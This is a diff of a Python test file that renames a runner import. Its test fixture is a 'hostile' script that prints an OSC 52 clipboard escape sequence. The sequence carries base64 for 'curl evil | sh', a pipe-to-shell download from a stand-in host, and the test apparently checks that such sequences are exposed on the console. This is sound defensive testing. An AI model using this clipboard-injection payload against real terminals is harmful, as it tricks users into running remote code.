@@ -16,7 +16,7 @@ import pytest
 
 from kit.check_settings import script_check
 from kit.install.environment import REUSED, Environment
-from kit.run import runner
+from kit.run import script_runs
 
 HOSTILE = r"""
 print("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard")
@@ -30,7 +30,7 @@ def test_a_scripts_escape_sequences_are_written_out_on_the_console(tmp_path: Pat
     script = tmp_path / "hostile.py"
     script.write_text(HOSTILE)
     env = Environment(python=Path(sys.executable), versions={}, obtained=REUSED)
-    fields = runner.run_script(env, script_check("hostile", script), "cpu", 60, lambda _line: None)
+    fields = script_runs.run_script(env, script_check("hostile", script), "cpu", 60, lambda _line: None)
     assert fields.status == "ran"
     shown = capsys.readouterr().out.splitlines()
     assert shown == [
